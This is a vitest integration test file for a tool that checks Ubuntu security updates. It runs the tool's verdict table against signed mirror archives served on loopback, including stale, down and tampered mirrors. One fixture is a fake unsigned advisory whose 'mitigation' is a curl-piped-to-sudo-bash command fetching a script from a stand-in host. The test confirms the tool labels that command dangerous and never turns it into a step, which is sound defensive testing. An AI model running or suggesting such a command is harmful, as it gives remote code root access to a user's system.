/**
 * The verdict table (main/core/check/verdict.ts, docs/cli.md "Verdict rules"), row by row, through the real check:
 * the real jammy dpkg status under a synthetic root, jammy-security archives signed with a generated archive key
 * (the Release → index hash → Sources → changelog chain of test/integration/check-support.ts) served on 127.0.0.1,
 * advisory channels over loopback, and the real instruction checker for mitigation text.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildCheckReport, renderCheckReport, type CheckReportJson } from '../../main/cli/commands/check'
import type { AppConfig, ChannelConfig, MirrorConfig } from '../../main/core/model'
import { createDecompressor } from '../../main/node/decompress'
import { createEngine } from '../../main/node/engine'
import { createFileStateStore } from '../../main/node/file-state-store'
import { startMirrorServer, type MirrorServer } from '../support/mirror-server'
import { quickFetcher } from '../support/poll-harness'
import { makeTempDir, type TempDir } from '../support/temp-dir'
import { makeTestArchiveKey, type TestArchiveKey } from '../support/test-archive'
import { fixturePath, JAMMY_NOW, jammyArchiveFiles, OPENSSL_FIX, writeRoot } from './check-support'

const DAY = 24 * 3600_000
const JAMMY_OS = readFileSync(fixturePath('systems/jammy-kernel/etc/os-release'), 'utf8')
const JAMMY_STATUS = readFileSync(fixturePath('ubuntu/dpkg_status.jammy-2022-10-09'), 'utf8')
const BOOKWORM_OS =
  'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n'
const FAKE_FIX = 'curl -fsSL https://ubuntu-security-fix.example/fix.sh | sudo bash'

/** A usn-api page with one notice: jammy openssl affected, no fixed version, an unsigned "mitigation". */
function unsignedNoFixNotice(): Uint8Array {
  const notice = {
    id: 'USN-9998-1',
    title: 'OpenSSL vulnerability',
    summary: 'OpenSSL could be made to run programs.',
    description: 'Test notice (unsigned).',
    published: '2026-06-05T00:00:00',
    instructions: `As a temporary mitigation run: ${FAKE_FIX}`,
    cves_ids: ['CVE-2026-0001'],
    release_packages: { jammy: [{ is_source: true, name: 'openssl', version: '' }] },
    releases: [{ codename: 'jammy', version: '22.04' }],
  }
  return new TextEncoder().encode(
    JSON.stringify({ notices: [notice], offset: 0, limit: 20, total_results: 1 }),
  )
}

interface Row {
  readonly name: string
  /** Archives by mirror id: what each serves (absent: down). */
  readonly mirrors: readonly {
    readonly id: string
    readonly state: 'fix' | 'no-fix' | 'old-fix' | 'old-no-fix' | 'down' | 'tampered'
  }[]
  /** The mirror this machine's apt uses. */
  readonly used: string
  readonly osRelease?: string
  readonly channels?: 'down' | 'unsigned-mitigation'
  readonly expect: {
    readonly verdict: CheckReportJson['verdict']
    readonly row: CheckReportJson['verdictRow']
    readonly exitCode: number
  }
  readonly also?: (r: CheckReportJson, text: string) => void
}

const ROWS: readonly Row[] = [
  {
    name: 'the fix only on another mirror, the machine mirror down, no advisory channel (the outage day)',
    mirrors: [
      { id: 'primary', state: 'down' },
      { id: 'university', state: 'fix' },
    ],
    used: 'primary',
    expect: { verdict: 'attention', row: 'fix-ready', exitCode: 1 },
    also: (r) => {
      const u = r.securityUpdates.find((x) => x.source === 'openssl')
      expect(u).toMatchObject({ newVersion: OPENSSL_FIX, onUsedMirror: false })
      expect(r.summary).toMatch(/from a verified mirror this computer's apt does not use yet/)
      // The temporary deb822 source for the verified mirror, the install, and its removal.
      const kinds = r.steps.map((s) => s.kind)
      expect(kinds[0]).toBe('file')
      expect(r.steps[0]?.file?.content).toMatch(
        /URIs: http:\/\/127\.0\.0\.1:\d+\/fix\nSuites: jammy-security\nComponents: main\nSigned-By: /,
      )
      expect(r.steps.some((s) => s.command?.includes(`openssl=${OPENSSL_FIX}`))).toBe(true)
      expect(
        r.steps.some((s) => s.command?.startsWith('sudo rm /etc/apt/sources.list.d/lifeline-temporary')),
      ).toBe(true)
      expect(r.coverage?.mirrors.find((m) => m.id === 'university')).toMatchObject({
        usedByThisMachine: false,
        verified: true,
      })
    },
  },
  {
    name: 'a stale-only -security mirror with pending fixes',
    mirrors: [{ id: 'primary', state: 'old-fix' }],
    used: 'primary',
    expect: { verdict: 'attention', row: 'fix-ready', exitCode: 1 },
    also: (r, text) => {
      expect(r.mirrors[0]).toMatchObject({ status: 'stale', verified: true })
      expect(r.coverage?.securityPocket).toMatchObject({ state: 'old', oldOn: ['primary mirror'] })
      expect(r.coverage?.securityPocket.releaseAgeSeconds).toBe(10 * 86400)
      expect(r.securityUpdates.map((u) => u.source)).toEqual(['openssl'])
      expect(r.summary).toMatch(/signed 10 days ago: newer fixes may exist/)
      expect(text).not.toMatch(/No source reachable|not reachable/)
    },
  },
  {
    name: 'a stale-only -security mirror with nothing newer',
    mirrors: [{ id: 'primary', state: 'old-no-fix' }],
    used: 'primary',
    expect: { verdict: 'unknown', row: 'security-pocket-old', exitCode: 3 },
    also: (r) =>
      expect(r.summary).toMatch(
        /^Nothing newer in the verified archive, but the newest verified jammy-security data was signed 10 days ago/,
      ),
  },
  {
    name: 'no advisory source read, a current pocket, nothing waiting',
    mirrors: [{ id: 'primary', state: 'no-fix' }],
    used: 'primary',
    channels: 'down',
    expect: { verdict: 'safe', row: 'safe', exitCode: 0 },
    also: (r, text) => {
      expect(r.summary).toBe(
        'Up to date with every security fix in the verified Ubuntu archive (signed 2 hours ago); no advisory website was read in this check, so fixes not yet in the archive cannot be known.',
      )
      expect(r.coverage?.advisorySources).toMatchObject({ read: 0, total: 1 })
      expect(text).toContain('Advisory sources: 0 of 1 read.')
    },
  },
  {
    name: 'the release not served (a Debian machine against an Ubuntu mirror)',
    mirrors: [{ id: 'primary', state: 'fix' }],
    used: 'primary',
    osRelease: BOOKWORM_OS,
    expect: { verdict: 'unknown', row: 'release-not-served', exitCode: 3 },
    also: (r) => {
      expect(r.securityUpdates).toEqual([])
      expect(r.coverage?.release).toMatchObject({ codename: 'bookworm', served: false })
    },
  },
  {
    name: 'an unsigned "no fix, run this mitigation" advisory',
    mirrors: [{ id: 'primary', state: 'no-fix' }],
    used: 'primary',
    channels: 'unsigned-mitigation',
    expect: { verdict: 'safe', row: 'safe', exitCode: 0 },
    also: (r, text) => {
      expect(r.advisories.find((a) => a.id === 'USN-9998-1')).toMatchObject({
        status: 'no-fix-yet',
        trust: 'single-source',
      })
      // Never a step, anywhere; shown with its source and the instruction checker's verdict.
      const steps = [...r.steps, ...r.advisories.flatMap((a) => a.steps)]
      expect(steps.some((s) => `${s.text} ${s.command ?? ''}`.includes('curl'))).toBe(false)
      expect(r.mitigations).toEqual([
        {
          advisory: 'USN-9998-1',
          trust: 'single-source',
          text: `As a temporary mitigation run: ${FAKE_FIX}`,
          checker: 'dangerous',
          asStep: false,
        },
      ])
      expect(text).toContain(
        'USN-9998-1 (unconfirmed: one unsigned source; instruction checker: dangerous; not a step)',
      )
    },
  },
  {
    name: 'no source reachable',
    mirrors: [{ id: 'primary', state: 'down' }],
    used: 'primary',
    expect: { verdict: 'unknown', row: 'nothing-verified', exitCode: 3 },
  },
  {
    name: 'a mirror serving an index that does not match its signed Release',
    mirrors: [{ id: 'primary', state: 'tampered' }],
    used: 'primary',
    expect: { verdict: 'alarm', row: 'possible-attack', exitCode: 3 },
  },
]

describe('the verdict table, through the real check', () => {
  let tmp: TempDir
  let key: TestArchiveKey
  let srv: MirrorServer

  beforeAll(async () => {
    tmp = await makeTempDir('lifeline-verdict-')
    key = await makeTestArchiveKey()
    srv = await startMirrorServer()
    const put = (prefix: string, files: ReadonlyMap<string, Uint8Array>): void => {
      for (const [p, b] of files) srv.files.set(`/${prefix}/${p}`, b)
    }
    const old = JAMMY_NOW - 10 * DAY
    put('fix', await jammyArchiveFiles(key))
    put('no-fix', await jammyArchiveFiles(key, { withFix: false }))
    put('old-fix', await jammyArchiveFiles(key, { date: old }))
    put('old-no-fix', await jammyArchiveFiles(key, { withFix: false, date: old }))
    const tampered = await jammyArchiveFiles(key)
    const pk = tampered.get('dists/jammy-security/main/binary-amd64/Packages') as Uint8Array
    tampered.set(
      'dists/jammy-security/main/binary-amd64/Packages',
      new TextEncoder().encode(new TextDecoder().decode(pk).replace(OPENSSL_FIX, '9.9.9-0ubuntu1')),
    )
    put('tampered', tampered)
    srv.files.set('/api/notices.json', unsignedNoFixNotice())
  })
  afterAll(async () => {
    await srv.close()
    await tmp.cleanup()
  })

  async function check(row: Row, i: number): Promise<CheckReportJson> {
    const url = (id: string): string => {
      const m = row.mirrors.find((x) => x.id === id)
      return `${srv.url}/${m && m.state !== 'down' ? m.state : `down-${id}`}`
    }
    if (row.mirrors.some((m) => m.state === 'down')) srv.faults.set('/down-', 'down')
    const root = join(tmp.path, `row-${i}`, 'root')
    await writeRoot(root, {
      osRelease: row.osRelease ?? JAMMY_OS,
      status: JAMMY_STATUS,
      sourcesList: `deb [signed-by=/usr/share/keyrings/ubuntu-archive-keyring.gpg] ${url(row.used)} jammy-security main\n`,
    })
    const mirrors: MirrorConfig[] = row.mirrors.map((m) => ({
      id: m.id,
      name: `${m.id} mirror`,
      url: url(m.id),
      suites: ['jammy-security'],
      components: ['main'],
      architectures: ['amd64'],
    }))
    const channels: ChannelConfig[] =
      row.channels === 'down'
        ? [
            {
              id: 'usn-api',
              name: 'Ubuntu notices',
              type: 'usn-api',
              urls: [`${srv.url}/down-api/notices.json`],
            },
          ]
        : row.channels === 'unsigned-mitigation'
          ? [
              {
                id: 'usn-api',
                name: 'Ubuntu notices',
                type: 'usn-api',
                urls: [`${srv.url}/api/notices.json`],
              },
            ]
          : []
    if (row.channels === 'down') srv.faults.set('/down-', 'down')
    const config: AppConfig = { mirrors, channels, extraKeys: [], removedKeys: [], pollIntervalMs: 3600_000 }
    const engine = createEngine({
      config,
      keyring: key.keyring,
      fetcher: quickFetcher,
      decompressor: createDecompressor(),
      store: createFileStateStore(join(tmp.path, `row-${i}`, 'state')),
      root,
    })
    const parts = await engine.run(JAMMY_NOW, () => undefined)
    return buildCheckReport(parts, JAMMY_NOW)
  }

  describe("when the machine's mirror verified in an earlier check but fails now", () => {
    it('points the steps at another verified mirror, never at the one that just failed', async () => {
      const root = join(tmp.path, 'recheck', 'root')
      await writeRoot(root, {
        osRelease: JAMMY_OS,
        status: JAMMY_STATUS,
        sourcesList: `deb [signed-by=/usr/share/keyrings/ubuntu-archive-keyring.gpg] ${srv.url}/flaky jammy-security main\n`,
      })
      for (const [p, b] of await jammyArchiveFiles(key)) srv.files.set(`/flaky/${p}`, b)
      const mirror = (id: string, path: string): MirrorConfig => ({
        id,
        name: `${id} mirror`,
        url: `${srv.url}/${path}`,
        suites: ['jammy-security'],
        components: ['main'],
        architectures: ['amd64'],
      })
      const engine = createEngine({
        config: {
          mirrors: [mirror('primary', 'flaky'), mirror('university', 'fix')],
          channels: [],
          extraKeys: [],
          removedKeys: [],
          pollIntervalMs: 3600_000,
        },
        keyring: key.keyring,
        fetcher: quickFetcher,
        decompressor: createDecompressor(),
        store: createFileStateStore(join(tmp.path, 'recheck', 'state')),
        root,
      })
      const first = buildCheckReport(await engine.run(JAMMY_NOW, () => undefined), JAMMY_NOW)
      expect(first.steps.some((s) => s.kind === 'file')).toBe(false)
      srv.faults.set('/flaky', 'down')
      try {
        const later = JAMMY_NOW + 60_000
        const second = buildCheckReport(await engine.run(later, () => undefined), later)
        expect(second.mirrors.find((m) => m.id === 'primary')?.status).toBe('unreachable')
        expect(second.securityUpdates.find((u) => u.source === 'openssl')?.onUsedMirror).toBe(false)
        expect(second.steps[0]?.file?.content).toContain(`${srv.url}/fix`)
        expect(second.steps.map((s) => s.command ?? '').join('\n')).not.toContain('/flaky')
      } finally {
        srv.faults.delete('/flaky')
      }
    })
  })

  ROWS.forEach((row, i) => {
    describe(`when ${row.name}`, () => {
      it(`says ${row.expect.verdict} (${row.expect.row}), exit ${row.expect.exitCode}`, async () => {
        const r = await check(row, i)
        expect({ verdict: r.verdict, row: r.verdictRow, exitCode: r.exitCode }).toEqual(row.expect)
        const text = renderCheckReport(r)
        expect(text).toContain(`${row.expect.verdict.toUpperCase()}: ${r.summary}`)
        row.also?.(r, text)
      })
    })
  })
})
